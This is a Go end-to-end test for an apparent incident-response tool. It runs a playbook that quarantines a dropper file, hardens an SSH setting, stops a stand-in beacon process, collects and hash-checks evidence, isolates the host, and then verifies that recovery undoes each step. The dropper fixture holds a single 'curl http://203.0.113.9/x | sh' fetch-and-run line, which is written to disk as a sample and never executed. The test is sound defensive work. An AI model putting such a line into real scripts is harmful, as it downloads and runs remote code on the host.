package e2e

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

const hostPlaybook = `id: playbook--5e6f7a8b-9c0d-4e1f-8a2b-3c4d5e6f7a8b
name: Clean up a compromised host
modified: 2026-11-26T00:00:00Z
description: Quarantines a dropper, hardens a setting, stops a beacon, collects evidence and isolates the host.
start: quarantine
steps:
  quarantine:
    connector: agent.quarantine_file
    args: {host: victim, path: %[1]s/files/dropper.sh}
    next: harden
  harden:
    connector: agent.set_config_line
    args: {host: victim, path: %[1]s/files/app.conf, key: PermitRootLogin, value: "no"}
    next: beacon
  beacon:
    connector: agent.stop_service
    args: {host: victim, name: beacon}
    next: log
  log:
    connector: agent.collect_file
    args: {host: victim, path: %[1]s/files/app.log}
    next: firewall
  firewall:
    connector: agent.collect_firewall
    args: {host: victim}
    next: isolate
  isolate:
    connector: agent.isolate_host
    args: {host: victim, reason: "beacon found"}
    next: done
  done: end
`

// TestHostActionsThroughTheAgent runs a playbook that fixes a host through
// its agent (quarantine, configuration, service, evidence, isolation),
// checks each effect on the host itself, the evidence's custody and
// integrity, then recovers the incident and checks that every action was
// undone.
func TestHostActionsThroughTheAgent(t *testing.T) {
	l := newLab(t, "victim", "client")
	n := newNodeOn(t, l.server, "")
	n.start()
	srv := []string{"--server", "http://" + n.http, "--token", n.token}
	dir := t.TempDir()
	files := filepath.Join(dir, "files")
	os.MkdirAll(files, 0o755)
	dropper := []byte("#!/bin/sh\ncurl http://203.0.113.9/x | sh\n")
	writeFile(t, files, "dropper.sh", string(dropper))
	writeFile(t, files, "app.conf", "Port 22\nPermitRootLogin yes\n")
	writeFile(t, files, "app.log", "line one\nline two\n")
	pidFile := filepath.Join(dir, "beacon.pid")
	cfg := writeFile(t, dir, "agent.yaml", fmt.Sprintf(`host_ops:
  quarantine_paths: [%[1]s/files]
  evidence_paths: [%[1]s/files]
  config_files: [%[1]s/files/app.conf]
  log_files: [%[1]s/files/app.log]
  services: [beacon]
  service_manager: exec
  service_settle: 200ms
  kill_grace: 1s
  exec_services:
    beacon: {start: [/bin/sleep, "3600"], pid_file: %[2]s}
`, dir, pidFile))
	agent := enrollVictim(t, l, n, dir, "--config", cfg, "--heartbeat", "1s", "--reconcile", "500ms")
	// The beacon runs (started through the agent's own service manager,
	// as an operator would have).
	beacon := startBeacon(t, pidFile)
	defer syscall.Kill(beacon, syscall.SIGKILL)

	// A service on the victim that the client uses.
	l.serveTCP(t, "victim", l.hosts["victim"].addr+":8081")
	web := l.hosts["victim"].addr + ":8081"
	if err := l.dial("client", "", web, time.Second); err != nil {
		t.Fatalf("client before isolation: %v", err)
	}

	// An incident to respond to.
	var lines []string
	for i := 0; i < 10; i++ {
		lines = append(lines, fmt.Sprintf("Failed password for root from 198.51.100.4 port %d ssh2", 40000+i))
	}
	sendSyslogTCP(t, n.syslog, lines...)
	var incID string
	waitFor(t, "an incident", 20*time.Second, func() bool {
		incs := n.incidents(t)
		if len(incs) > 0 {
			incID = incs[0].ID
		}
		return incID != ""
	})
	pb := writeFile(t, dir, "host.yaml", fmt.Sprintf(hostPlaybook, dir))
	if out, errs, code := run(append([]string{"playbook", "import", pb, "--reason", "e2e"}, srv...)...); code != 0 {
		t.Fatalf("import: %s %s", out, errs)
	}
	out, errs, code := run(append([]string{"playbook", "run", "playbook--5e6f7a8b-9c0d-4e1f-8a2b-3c4d5e6f7a8b", "--incident", incID}, srv...)...)
	if code != 0 {
		t.Fatalf("run: %s %s", out, errs)
	}
	runID := strings.Fields(out)[len(strings.Fields(out))-1]
	waitFor(t, "the run to finish", 60*time.Second, func() bool {
		o := runOutcome(t, srv, runID)
		if o == "failed" {
			tr, _, _ := run(append([]string{"run", "show", runID}, srv...)...)
			t.Fatalf("run failed:\n%s\nagent:\n%s", tr, tail(agent.log.String(), 30))
		}
		return o == "succeeded"
	})

	// Each effect, read on the host itself.
	if _, err := os.Stat(filepath.Join(files, "dropper.sh")); !os.IsNotExist(err) {
		t.Fatalf("dropper still there: %v", err)
	}
	if b, _ := os.ReadFile(filepath.Join(files, "app.conf")); !strings.Contains(string(b), "PermitRootLogin no") {
		t.Fatalf("config not changed:\n%s", b)
	}
	if syscall.Kill(beacon, 0) == nil && !zombie(beacon) {
		t.Fatal("the beacon still runs")
	}
	if err := l.dial("client", "", web, 500*time.Millisecond); err == nil {
		t.Fatal("the isolated host still accepts the client")
	}

	// Evidence: two items, recorded against the incident and the run,
	// downloadable with their hash checked.
	out, _, _ = run(append([]string{"evidence", "list", "--incident", incID, "--output", "json"}, srv...)...)
	var ev []struct {
		ID, Name, SHA256, Hostname string
		RequestedBy                string `json:"requested_by"`
		Size                       int64
	}
	json.Unmarshal([]byte(out), &ev)
	if len(ev) != 2 {
		t.Fatalf("evidence: %s", out)
	}
	names := ev[0].Name + " " + ev[1].Name
	if !strings.Contains(names, "nftables-state.json") || ev[0].RequestedBy != "playbook:"+runID || ev[0].Hostname != "victim" {
		t.Fatalf("evidence custody (run %s): %s", runID, out)
	}
	for _, e := range ev {
		dst := filepath.Join(dir, "got-"+e.ID)
		if o, errs, code := run(append([]string{"evidence", "get", e.ID, "--out", dst}, srv...)...); code != 0 {
			t.Fatalf("evidence get: %s %s", o, errs)
		}
		b, _ := os.ReadFile(dst)
		h := sha256.Sum256(b)
		if hex.EncodeToString(h[:]) != e.SHA256 {
			t.Fatalf("downloaded %s does not match its record", e.Name)
		}
		if strings.HasSuffix(e.Name, "app.log") && string(b) != "line one\nline two\n" {
			t.Fatalf("collected log: %q", b)
		}
	}
	// Evidence altered at rest is refused, not served.
	stored := filepath.Join(n.data, "evidence", ev[0].SHA256[:2], ev[0].SHA256)
	os.Chmod(stored, 0o600)
	if err := os.WriteFile(stored, []byte("tampered"), 0o600); err != nil {
		t.Fatal(err)
	}
	if o, _, code := run(append([]string{"evidence", "get", ev[0].ID, "--out", filepath.Join(dir, "tampered")}, srv...)...); code == 0 {
		t.Fatalf("tampered evidence was served: %s", o)
	}

	// Recovery undoes it all, newest first.
	out, errs, code = run(append([]string{"incident", "recover", incID}, srv...)...)
	if code != 0 {
		t.Fatalf("recover: %s %s\nagent:\n%s", out, errs, tail(agent.log.String(), 20))
	}
	steps := readLines(out)
	if len(steps) != 4 || !strings.Contains(steps[0], "release victim") || !strings.Contains(steps[1], "undo stop_service") ||
		!strings.Contains(steps[2], "undo set_config_line") || !strings.Contains(steps[3], "undo quarantine_file") {
		t.Fatalf("recovery steps, newest first:\n%s", out)
	}
	if err := l.dial("client", "", web, time.Second); err != nil {
		t.Fatalf("client after recovery: %v", err)
	}
	if b, err := os.ReadFile(filepath.Join(files, "dropper.sh")); err != nil || string(b) != string(dropper) {
		t.Fatalf("dropper not restored exactly: %v %q", err, b)
	}
	if b, _ := os.ReadFile(filepath.Join(files, "app.conf")); string(b) != "Port 22\nPermitRootLogin yes\n" {
		t.Fatalf("config not restored:\n%s", b)
	}
	b, err := os.ReadFile(pidFile)
	if err != nil {
		t.Fatal(err)
	}
	pid, _ := strconv.Atoi(strings.TrimSpace(string(b)))
	if pid == beacon || syscall.Kill(pid, 0) != nil {
		t.Fatalf("the beacon service was not started again (pid %d)", pid)
	}
	syscall.Kill(pid, syscall.SIGKILL)
	show, _, _ := run(append([]string{"incident", "show", incID}, srv...)...)
	if strings.Count(show, "recovery:") < 4 {
		t.Fatalf("timeline lacks the recovery steps:\n%s", tail(show, 20))
	}
	agent.stop()
}

// startBeacon starts the "beacon" the way the agent's exec service
// manager would, and writes its pid file.
func startBeacon(t *testing.T, pidFile string) int {
	t.Helper()
	p, err := os.StartProcess("/bin/sleep", []string{"sleep", "3600"}, &os.ProcAttr{Sys: &syscall.SysProcAttr{Setsid: true}})
	if err != nil {
		t.Fatal(err)
	}
	go p.Wait()
	if err := os.WriteFile(pidFile, []byte(strconv.Itoa(p.Pid)+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	return p.Pid
}

func zombie(pid int) bool {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return true
	}
	s := string(b)
	i := strings.LastIndex(s, ")")
	return i > 0 && i+2 < len(s) && s[i+2] == 'Z'
}
